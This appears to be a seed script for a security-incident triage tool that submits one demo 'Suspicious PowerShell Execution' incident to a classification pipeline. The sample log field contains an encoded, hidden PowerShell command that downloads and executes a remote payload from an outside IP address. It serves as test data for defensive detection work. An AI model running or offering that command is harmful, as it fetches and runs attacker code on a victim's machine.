print("🔥 seed.py started...")
import asyncio

from socflow.core.logging import setup_logging
from socflow.database.db import SessionLocal, init_db
from socflow.schemas.siem import SiemEndpointUpsert
from socflow.services.pipeline import build_pipeline

# create tables (safe)
init_db()

SAMPLE_INCIDENT = {
    "title": "Suspicious PowerShell Execution",
    "systemContext": "Finance workstation WS-042, Windows 11, EDR in detect-only mode",
    "logData": (
        "EventID=4104 host=WS-042 user=jdoe powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA "
        "connecting to 185.220.101.45:4444; IEX DownloadString('http://185.220.101.45/payload.ps1')"
    ),
    "iocs": ["185.220.101.45"],
    "mitreAttack": ["T1059.001"],
    "source": "siem-webhook",
    "siemType": "demo",
    "siemIncidentId": "DEMO-0001",
}


async def seed_data():
    pipeline = build_pipeline(SessionLocal)

    # ----------------------------
    # Register demo SIEM endpoint
    # ----------------------------
    db = SessionLocal()
    try:
        pipeline.dispatcher.upsert_endpoint(
            db, "demo", SiemEndpointUpsert(endpoint_url="http://localhost:9000/siem/results")
        )
    finally:
        db.close()

    # ----------------------------
    # Submit sample incident
    # ----------------------------
    record = await pipeline.submit(SAMPLE_INCIDENT)
    print(f"Incident {record.id}: {record.classification} / {record.severity} / confidence {record.confidence}")

    # delivery to the demo endpoint will keep retrying; don't wait for it
    await pipeline.shutdown()
    print("✅ Demo data inserted successfully!")


if __name__ == "__main__":
    setup_logging()
    asyncio.run(seed_data())
